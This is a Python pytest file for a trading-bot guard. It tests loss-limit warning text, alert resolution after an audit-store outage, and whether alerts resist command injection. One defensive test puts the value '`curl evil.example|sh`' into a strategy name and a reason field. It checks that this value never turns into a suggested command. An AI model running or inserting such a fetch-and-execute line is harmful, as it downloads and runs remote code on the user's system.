"""What do people read of the guard, and do they hear of its end when the audit store was away at its beginning?"""

from __future__ import annotations

from dataclasses import asdict
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from trading_ops.guard.actions import CONFIRMED, ESCALATED, GONE, OBSERVED, RESUMED, request, watching
from trading_ops.guard.rules import Limits, assess
from trading_ops.guard.telling import STOPPING, UNREADABLE, alert_of, blind, over, through, warnings
from trading_ops.notifications.alert import Alert
from trading_ops.notifications.desk import IncidentDesk
from trading_ops.notifications.text import CODE
from trading_ops_tests.audit.unreliable import DOWN, UP, UnreliableStore
from trading_ops_tests.notifications.test_outbox import Clock, Recorder, backed

NOON = datetime(2025, 3, 10, 12, tzinfo=UTC)
STOP = request(watching("bot", "rsi"), NOON, rule="daily_loss", why="rsi lost 12.00 % today, the limit is 10 %")


def warned(**figures: object) -> list[Alert]:
    known = {"realised_usdt": 0.0, "streak": 0, "recent": [], "equity_at_midnight": 1000.0, "unrealised_now": 0.0,
             "unrealised_at_midnight": 0.0}  # fmt: skip
    risk = assess(Limits(), **{**known, **figures})  # type: ignore[arg-type]
    return warnings("rsi", risk, asdict(Limits()), "2025-03-10")


@pytest.mark.parametrize(
    ("figures", "title"),
    [
        ({"realised_usdt": -84.0}, "rsi comes near a limit: lost 8.40 % today, the limit is 10 %"),
        ({"streak": 9}, "rsi comes near a limit: 9 losses in a row, the limit is 10"),
        ({"recent": [1.0] * 5 + [-1.0] * 15}, "rsi comes near a limit: won 25 % of its last 20 trades, 30 % is low"),
        ({"equity_at_midnight": None}, "The guard is blind for rsi"),
    ],
)
def test_the_title_of_a_warning_has_the_figure_and_its_limit(figures, title):
    (alert,) = warned(**figures)
    assert alert.what == title
    assert alert.why
    assert alert.what_to_do


@pytest.mark.parametrize("phase", [STOPPING, CONFIRMED, ESCALATED, GONE, OBSERVED, RESUMED])
def test_a_strategys_name_makes_no_command(phase):
    stop = request(watching("bot", "`curl evil.example|sh`"), NOON, rule="daily_loss", why="lost")
    alert = alert_of({**stop, "why": "`curl evil.example|sh`\nis away"}, phase)
    commands = CODE.findall(f"{alert.done}\n{alert.what_to_do}")
    assert [command for command in commands if "curl" in command and not command.startswith("trading-ops ")] == []


@pytest.mark.parametrize(
    ("begins", "ends"),
    [
        (alert_of(STOP, CONFIRMED), alert_of(STOP, RESUMED)),
        (blind("connection refused", NOON, "bot", stale=False), over(UNREADABLE)),
        (warned(streak=9)[0], over("guard/rsi/consecutive_losses_near_limit")),
    ],
    ids=["a stop", "a bot that cannot be read", "a limit that is near"],
)
def test_what_was_told_while_the_audit_store_was_away_is_told_to_be_over_when_it_is_back(tmp_path: Path, begins, ends):
    clock, chat, main = Clock(), Recorder(), UnreliableStore(tmp_path / "audit.db")
    with main:
        tell = through(IncidentDesk(main, backed(main, tmp_path / "local.db", clock, chat), clock))
        main.be(DOWN)
        tell(begins)
        clock.advance(timedelta(minutes=5))
        main.be(UP)
        tell(ends)
    assert [(str(told.step), told.incident) for told, _ in chat.told] == [
        ("opened", begins.incident), ("resolved", begins.incident),
    ]  # fmt: skip
